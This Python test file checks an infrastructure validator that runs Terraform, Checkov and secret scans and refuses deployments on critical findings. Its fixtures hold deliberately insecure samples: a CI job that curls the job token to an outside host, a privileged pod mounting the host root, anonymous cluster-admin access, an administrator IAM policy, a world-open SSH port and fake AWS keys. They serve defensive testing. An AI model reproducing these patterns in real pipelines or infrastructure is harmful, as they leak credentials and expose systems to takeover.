"""`validate_infrastructure` on the real tools: daemon, command line, Terraform with the real provider."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from tests.support.cloudformation import STACK
from tests.support.repository import Repository
from tests.support.scene import Said, Scene

PROVIDER = """\
terraform {
  required_providers {
    aws = { source = "hashicorp/aws", version = ">= 5.100, < 7.0" }
  }
}
"""
QUEUE = """
resource "aws_sqs_queue" "jobs" {
  name                    = "jobs"
  sqs_managed_sse_enabled = true
}
"""
BUDGET = """\
resource "aws_budgets_budget" "all" {
  name         = "all"
  budget_type  = "COST"
  limit_amount = "100"
  limit_unit   = "USD"
  time_unit    = "MONTHLY"
}
"""


@pytest.fixture(scope="module")
def scene() -> Iterator[Scene]:
    """A home whose owner's settings would break every command of Terraform, if they had an effect."""
    with Scene(TF_CLI_ARGS="-no-such-flag", TF_CLI_ARGS_validate="-no-such-flag", TF_LOG="trace") as made:
        yield made


def found(said: Said) -> dict[str, Any]:
    return said.value


def test_a_broken_argument_is_found_where_it_is_and_the_exit_code_says_findings(shop: Repository) -> None:
    shop.write("infra/main.tf", PROVIDER + QUEUE.replace("name  ", "nam   "))
    said = shop.validate("terraform")
    assert said.code == 8, said
    (finding,) = [each for each in found(said)["findings"] if each["rule"] == "terraform/unsupported-argument"]
    assert finding["untrusted_place"] == "infra/main.tf:8" and '"nam"' in finding["untrusted_why"]
    assert found(said)["verdict"] == "findings" and found(said)["not_checked"] == []


def test_what_is_in_order_passes_and_is_not_checked_again(shop: Repository) -> None:
    shop.write("infra/main.tf", PROVIDER + QUEUE + BUDGET)
    said = shop.validate("terraform")
    assert said.code == 0 and found(said)["verdict"] == "passed", said
    again = shop.validate("terraform")
    assert [(each["checker"], each["cached"]) for each in found(again)["checks"]] == [
        (each["checker"], True) for each in found(said)["checks"]
    ]


def test_a_provider_that_is_not_here_is_no_pass(shop: Repository) -> None:
    shop.write("infra/main.tf", 'resource "nowhere_thing" "a" {\n}\n')
    said = shop.validate("terraform")
    assert said.code == 9, said
    (line,) = found(said)["not_checked"]
    assert line["checker"] == "terraform" and "hashicorp/nowhere" in line["untrusted_why"]
    shop.write("infra/main.tf", PROVIDER.replace(">= 5.100", ">= 6.0"))
    (line,) = found(shop.validate("terraform"))["not_checked"]
    assert ">= 6.0" in line["untrusted_why"]


def test_what_runs_code_is_found_first_and_terraform_is_not_run_on_it(shop: Repository, tmp_path: Path) -> None:
    mark = tmp_path / "ran"
    external = f'data "external" "x" {{\n  program = ["touch", "{mark}"]\n}}\n'
    shop.write("infra/bad/main.tf", external)
    shop.write("infra/good/main.tf", PROVIDER + QUEUE)
    shop.write("infra/uses/main.tf", 'module "bad" {\n  source = "../bad"\n}\n')
    said = shop.validate("terraform")
    rules = [each["rule"] for each in found(said)["findings"]]
    assert said.code == 8 and "kr8/terraform-external-data" in rules
    (line,) = found(said)["not_checked"]
    why = line["untrusted_why"]
    assert "infra/uses" in why and "not run" in why and "infra/good" not in why
    assert not mark.exists()


def test_broken_configuration_is_found_at_its_line(shop: Repository) -> None:
    shop.write("infra/main.tf", PROVIDER + 'resource "aws_sqs_queue" {\n  name = \n}\n')
    said = shop.validate("terraform")
    assert said.code == 8, said
    assert any(each["untrusted_place"].startswith("infra/main.tf:") for each in found(said)["findings"])


def test_layout_is_told_at_its_first_line(shop: Repository) -> None:
    shop.write("infra/main.tf", PROVIDER + QUEUE.replace("  name  ", "      name  ") + BUDGET)
    said = shop.validate("terraform")
    (finding,) = found(said)["findings"]
    assert finding["rule"] == "terraform/fmt" and finding["untrusted_place"].startswith("infra/main.tf:")


def test_a_secret_is_found_in_what_is_not_committed_and_links_out_are_not_followed(
    shop: Repository, tmp_path: Path
) -> None:
    (tmp_path / "elsewhere").write_text('token = "AKIAIOSFODNN7ABCDEFG"\n')
    shop.write("settings.py", "KEY = 'AKIAIOSFODNN7ABCDEFH'\n")
    shop.write(".gitignore", "ignored/\n")
    shop.write("ignored/x.py", "KEY = 'AKIAIOSFODNN7ABCDEFI'\n")
    (shop.folder / "link.py").symlink_to(tmp_path / "elsewhere")
    (shop.folder / "folder").symlink_to(tmp_path)
    said = shop.validate("project")
    places = {each["untrusted_place"] for each in found(said)["findings"] if each["severity"] == "critical"}
    assert places == {"settings.py:1"}
    assert any(
        each["rule"] == "kr8/not-read" and "link.py" in each["untrusted_why"] for each in found(said)["findings"]
    )


OPEN = """\
resource "aws_security_group" "web" {
  ingress {
    from_port   = 80
    to_port     = 80
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
"""


def checks(said: Said) -> dict[str, Any]:
    """What each checker did, by name."""
    return {each["checker"]: each for each in said.value["checks"]}


def test_checkov_finds_what_is_open_to_the_world_and_runs_none_of_the_repositorys_own_checks(
    shop: Repository, tmp_path: Path
) -> None:
    mark = tmp_path / "ran"
    shop.write(".checkov.yaml", "external-checks-dir:\n  - checks\n")
    shop.write("checks/__init__.py", f"open({str(mark)!r}, 'w')\n")
    shop.write("infra/main.tf", PROVIDER + OPEN)
    shop.write("Dockerfile", "FROM python:latest\nUSER nobody\n")
    said = shop.validate(code=8)
    found = {each["rule"]: each for each in said.value["findings"]}
    assert found["checkov/CKV_AWS_260"]["untrusted_place"] == "infra/main.tf:6"
    assert found["checkov/CKV_AWS_260"]["severity"] == "high"
    assert found["kr8/image-unpinned"]["untrusted_place"] == "Dockerfile:1"
    assert "checkov/CKV_DOCKER_7" in found["kr8/image-unpinned"]["also"]
    assert checks(said)["checkov"]["state"] == "checked" and not mark.exists()
    again = shop.validate(code=8)
    assert all(each["cached"] for each in checks(again).values())
    assert again.value["findings"] == said.value["findings"]


JOB = """\
build:
  image: python:3.11
  script:
    - curl -d "$CI_JOB_TOKEN" https://example.com
"""
PLAY = """\
- name: Fetch
  hosts: all
  tasks:
    - name: Get it
      ansible.builtin.get_url:
        url: https://example.com/x
        dest: /tmp/x
        mode: "0644"
        validate_certs: false
"""
PATCH = """\
apiVersion: apps/v1
kind: Deployment
metadata: {name: web}
spec: {template: {spec: {containers: [{name: web, resources: {limits: {memory: 64Mi}}}]}}}
"""


def by_checkov(said: Said) -> set[tuple[str, str]]:
    return {
        (each["rule"].removeprefix("checkov/"), each["untrusted_place"])
        for each in found(said)["findings"]
        if each["rule"].startswith("checkov/")
    }


def test_checkov_looks_at_each_kind_of_file_that_it_knows_and_at_no_part_that_was_not_asked_for(
    shop: Repository,
) -> None:
    shop.write("api/Containerfile", "FROM python:3.11-slim\nRUN true\n")
    shop.write("stack.yaml", STACK)
    shop.write(".gitlab-ci.yml", JOB)
    shop.write("site.yml", PLAY)
    manifest = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "web"}, "spec": {"hostPID": True}}
    shop.write("pod.json", json.dumps(manifest))
    shop.write("over/kustomization.yaml", "resources: [web.yaml]\npatches: [{path: patch.yaml}]\n")
    shop.write("over/patch.yaml", PATCH)
    play, pod = ("CKV_ANSIBLE_2", "site.yml:4"), ("CKV_K8S_17", "pod.json:1")
    assert {
        ("CKV_DOCKER_3", "api/Containerfile:1"),
        ("CKV_AWS_24", "stack.yaml:3"),
        ("CKV_GITLABCI_1", ".gitlab-ci.yml:4"),
        play,
        pod,
    } <= by_checkov(shop.validate("--limit", "1000", code=8))
    alone = by_checkov(shop.validate("kubernetes", "--limit", "1000", code=8))
    assert pod in alone and {place for _, place in alone} == {"pod.json:1"}
    assert play in by_checkov(shop.validate("ansible", code=8))
    assert not any("K8S" in rule for rule, _ in by_checkov(shop.validate("ansible", code=8)))


def test_what_no_framework_of_checkov_takes_is_not_said_to_be_checked_by_it(shop: Repository) -> None:
    shop.write("arm.json", '{"$schema": "https://schema.management.azure.com/x", "resources": []}')
    assert "checkov" not in {each["checker"] for each in found(shop.validate())["checks"]}


def test_a_warm_checkov_answers_about_the_repository_that_was_asked_about(shop: Repository) -> None:
    shop.write("infra/budget.tf", BUDGET)
    shop.write("infra/main.tf", PROVIDER + QUEUE)
    assert shop.validate("terraform", code=0).value["findings"] == []
    shop.write("infra/main.tf", PROVIDER + OPEN)
    rules = {each["rule"] for each in shop.validate("terraform", code=8).value["findings"]}
    assert "checkov/CKV_AWS_260" in rules
    shop.write("infra/main.tf", PROVIDER + QUEUE)
    shop.write("infra/other.tf", "# nothing\n")
    assert shop.validate("terraform", code=0).value["findings"] == []


def test_a_suppression_without_a_reason_is_a_finding(shop: Repository) -> None:
    shop.write("infra/main.tf", PROVIDER + OPEN.replace("{\n  ing", "{\n  #checkov:skip=CKV_AWS_260\n  ing"))
    rules = {each["rule"]: each for each in shop.validate("terraform").value["findings"]}
    assert "checkov/CKV_AWS_260" not in rules
    assert "CKV_AWS_260" in rules["checkov/suppressed-without-reason"]["what"]


def test_a_tool_that_is_not_installed_is_not_checked_and_the_exit_code_says_so(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path
) -> None:
    with Scene(KR8_TOOLS=str(tmp_path_factory.mktemp("tools"))) as bare:
        shop = Repository(bare, tmp_path / "shop")
        shop.write("Dockerfile", "FROM python:3.12-slim\nUSER nobody\nHEALTHCHECK CMD true\n")
        said = shop.validate(code=9)
        assert said.value["verdict"] == "incomplete"
        whys = {each["checker"]: each["untrusted_why"] for each in said.value["not_checked"]}
        assert "kr8 tools install checkov" in whys["checkov"]
        listed = {each["name"]: each["state"] for each in bare.cli("tools", "list").value["tools"]}
        assert listed["checkov"] == "missing"
        doctor = bare.cli("doctor", code=None).value["checks"]
        assert [each["result"] for each in doctor if each["name"] == "checkov"] == ["warning"]


def test_an_agent_gets_a_short_answer_and_pages(scene: Scene, shop: Repository) -> None:
    for number in range(40):
        shop.write(f"infra/part{number}.tf", OPEN.replace('"web"', f'"web{number}"'))
    shop.validate(code=8)  # as long as it takes
    said = scene.agent.call("validate_infrastructure", project=str(shop.folder))
    assert said["verdict"] == "findings" and sum(said["counts"].values()) > 100
    assert len(json.dumps(said)) / 4 <= 2000
    more = scene.agent.call("validate_infrastructure", project=str(shop.folder), cursor=said["next"])
    assert more["findings"][0] not in said["findings"]


def test_a_critical_finding_refuses_a_plan_and_one_that_is_not_critical_stands_in_it() -> None:
    with Scene() as made:
        made.declare()
        made.start_project()
        made.commit({"infra/main.tf": 'data "external" "x" {\n  program = ["true"]\n}\n'})
        refused = made.ended(str(made.op("create_deployment", environment="development")["id"]), "failed")
        assert refused["problem"]["code"] == "kr8/terraform-external-data"
        assert refused["problem"]["output"][0] == "infra/main.tf:1"
        made.commit({"infra/main.tf": PROVIDER + QUEUE.replace("  name  ", "      name  ")})
        made.deploy()
        plan = made.op("create_deployment", environment="development", commit="HEAD")
        planned = made.until(str(plan["id"]), lambda seen: seen["state"] != "planning")
        assert [each["rule"] for each in planned["findings"]] == ["infrastructure_findings"]


ADMINISTRATOR = """\
resource "aws_iam_role_policy_attachment" "ci" {
  role       = "ci"
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}
"""
AGENT = """\
apiVersion: v1
kind: Pod
metadata: {name: agent, namespace: agents}
spec:
  containers:
    - name: agent
      image: agent:1
      securityContext: {privileged: true}
      volumeMounts: [{name: host, mountPath: /host}]
  volumes:
    - {name: host, hostPath: {path: /}}
"""
WAIVER = f"""\
[[waiver]]
rule = "{{}}"
place = "{{}}"
owner = "ada"
reason = "a lab that is gone next week"
expires = {date.today() + timedelta(days=7)}
"""


def refusal(made: Scene, files: dict[str, str]) -> dict[str, Any]:
    """Why a plan of a commit with these files is refused."""
    made.commit(files)
    plan = made.op("create_deployment", environment="development")
    problem: dict[str, Any] = made.ended(str(plan["id"]), "failed")["problem"]
    return problem


def test_what_opens_the_account_or_its_data_to_everybody_refuses_a_plan_until_somebody_waives_it() -> None:
    with Scene() as made:
        made.declare()
        made.start_project()
        ssh = OPEN.replace("80", "22")
        assert refusal(made, {"infra/main.tf": PROVIDER + ssh})["code"] == "kr8/terraform-open-port"
        lesser = WAIVER.format("checkov/CKV_AWS_24", "infra/*")
        assert refusal(made, {".kr8/waivers.toml": lesser})["code"] == "kr8/terraform-open-port"
        files = {
            ".kr8/waivers.toml": WAIVER.format("kr8/terraform-open-port", "infra/*"),
            "infra/iam.tf": ADMINISTRATOR,
            "deploy/agent.yaml": AGENT,
        }
        problem = refusal(made, files)
        assert problem["code"] == "kr8/kubernetes-host-root" and "AdministratorAccess" in problem["why"], problem
        assert {"infra/iam.tf:3", "deploy/agent.yaml:6"} <= set(problem["output"])
        names = ("terraform-open-port", "iam-administrator", "kubernetes-host-root")
        made.commit({".kr8/waivers.toml": "\n".join(WAIVER.format(f"kr8/{name}", "*") for name in names)})
        made.deploy()


def test_what_refuses_a_plan_does_so_in_json_too() -> None:
    with Scene() as made:
        made.declare()
        made.start_project()
        subject = {"kind": "Group", "name": "system:unauthenticated"}
        binding = {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "ClusterRoleBinding",
            "metadata": {"name": "all"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
            "subjects": [{"apiGroup": "rbac.authorization.k8s.io", **subject}],
        }
        problem = refusal(made, {"deploy/all.json": json.dumps(binding)})
        assert problem["code"] == "kr8/kubernetes-anonymous-access", problem


def test_roots_that_differ_in_values_alone_are_looked_at_once_and_each_finding_is_in_every_root(
    shop: Repository,
) -> None:
    for name in ("one", "two"):
        shop.write(f"infra/{name}/main.tf", PROVIDER + QUEUE + BUDGET)
        shop.write(f"infra/{name}/backend.tf", f'terraform {{\n  backend "s3" {{\n    bucket = "{name}"\n  }}\n}}\n')
    assert shop.validate("terraform", code=0).value["verdict"] == "passed"
    for name in ("one", "two"):
        shop.write(f"infra/{name}/main.tf", PROVIDER + QUEUE.replace("name  ", "nam   ") + BUDGET)
    places = {each["untrusted_place"] for each in shop.validate("terraform", code=8).value["findings"]}
    assert places == {"infra/one/main.tf:8", "infra/two/main.tf:8"}
